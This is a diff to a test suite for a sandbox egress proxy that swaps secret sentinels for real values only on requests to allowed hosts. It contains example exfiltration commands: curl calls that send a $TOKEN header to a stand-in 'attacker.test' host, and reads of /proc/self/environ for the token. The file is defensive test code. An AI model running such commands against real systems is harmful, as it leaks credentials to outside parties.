@@ -4,6 +4,7 @@
  * which receives the real value of an injected secret while the sandbox only ever holds its
  * sentinel; an "attacker" service gets no connection, or only the sentinel.
  */
+import { gunzipSync } from 'node:zlib';
 import { makeTempDir } from '../helpers/tmp';
 import { EgressProxy, type EgressDecision, type EgressRun } from '../../src/egress/proxy';
 import { normalizeNetworkPolicy, normalizeSecretBindings } from '../../src/egress/rules';
@@ -66,7 +67,7 @@ describe('injection through real clients in a sandbox', () => {
   afterAll(() => run.close());
 
   test('curl: the service receives the value, the command sees neither it nor its echo', async () => {
-    const result = await runSandboxed(run, 'curl -sS -H "Authorization: Bearer $TOKEN" https://allowed.test/curl; echo; tr "\\0" "\\n" < /proc/self/environ | grep ^TOKEN=', { TOKEN: sentinel });
+    const result = await runSandboxed(run, 'curl -sS -H "Authorization: Bearer $TOKEN" https://allowed.test/curl; echo; cat /proc/self/environ | tr "\\0" "\\n" | grep ^TOKEN=', { TOKEN: sentinel });
     expect(result.stderr).toBe('');
     expect(allowed.seen.map((s) => s.headers.authorization)).toEqual([`Bearer ${VALUE}`]);
     expect(result.stdout).not.toContain(VALUE);
@@ -85,7 +86,7 @@ describe('injection through real clients in a sandbox', () => {
   });
 
   test('Python urllib, with the sentinel in the URL and a gzip-encoded echo', async () => {
-    const script = `python3 -c 'import os, urllib.request; print(urllib.request.urlopen("https://allowed.test/py/gzip?t=" + os.environ["TOKEN"]).read().decode())'`;
+    const script = `python3 -c 'import os, urllib.request; import gzip; print(gzip.decompress(urllib.request.urlopen("https://allowed.test/py/gzip?t=" + os.environ["TOKEN"]).read()).decode())'`;
     const result = await runSandboxed(run, script, { TOKEN: sentinel });
     expect(result.stderr).toBe('');
     expect(allowed.seen.map((s) => s.url)).toEqual([`/py/gzip?t=${VALUE}`]);
@@ -111,7 +112,8 @@ describe('injection through real clients in a sandbox', () => {
     const result = await runSandboxed(run, script, { TOKEN: sentinel });
     expect(result.stderr).toBe('');
     expect(allowed.seen).toHaveLength(1);
-    const body = require('node:zlib').gunzipSync(Buffer.from(allowed.seen[0]!.body, 'binary'));
+    const body = gunzipSync(allowed.seen[0]!.raw);
+    expect(body.toString()).toBe(`t=${sentinel}`);
     expect(decisions.some((d) => d.bodyNotInjected === true)).toBe(true);
     expect(body.toString()).not.toContain(VALUE);
   });
@@ -146,8 +148,9 @@ describe('allowed but not bound', () => {
   test('the attacker gets at most the sentinel; the sentinel is audited where visible', async () => {
     const { run, sentinel } = await openRun({ mode: 'allowlist', allow: ['allowed.test', 'attacker.test'] }, bound, 'run-unbound');
     try {
-      const script = 'curl -sS -o /dev/null -H "X: $TOKEN" https://attacker.test/tls; curl -sS -o /dev/null -H "X: $TOKEN" http://attacker.test/plain';
-      const result = await runSandboxed(run, script, { TOKEN: sentinel! });
+      // The attacker's certificate chains to the test's stand-in public CA, which curl is told to trust.
+      const script = 'printf %s "$PUBLIC_CA" > /tmp/public.pem; curl -sS -o /dev/null --cacert /tmp/public.pem -H "X: $TOKEN" https://attacker.test/tls; curl -sS -o /dev/null -H "X: $TOKEN" http://attacker.test/plain';
+      const result = await runSandboxed(run, script, { TOKEN: sentinel!, PUBLIC_CA: publicCa.certPem });
       expect(result.stderr).toBe('');
       expect(attacker.seen.map((s) => s.headers['x'])).toEqual([sentinel, sentinel]);
       expect(JSON.stringify(attacker.seen)).not.toContain(VALUE);
@@ -166,10 +169,10 @@ describe('network none', () => {
         'curl -sS -o /dev/null -w "%{http_code}\\n" http://allowed.test/',
         'curl -sS https://allowed.test/ 2>/dev/null || echo tls-refused',
         `curl -sS --noproxy "*" http://127.0.0.1:${allowed.httpPort}/ 2>/dev/null || echo direct-refused`,
-        'ls /sys/class/net',
+        "awk 'NR > 2 { print $1 }' /proc/net/dev",
       ].join('; ');
       const result = await runSandboxed(run, script);
-      expect(result.stdout).toBe('403\ntls-refused\ndirect-refused\nlo\n');
+      expect(result.stdout).toBe('403\ntls-refused\ndirect-refused\nlo:\n');
       expect(allowed.connections).toBe(0);
       expect(decisions.every((d) => !d.allowed && d.rule === 'mode:none')).toBe(true);
       expect(decisions).toHaveLength(2);
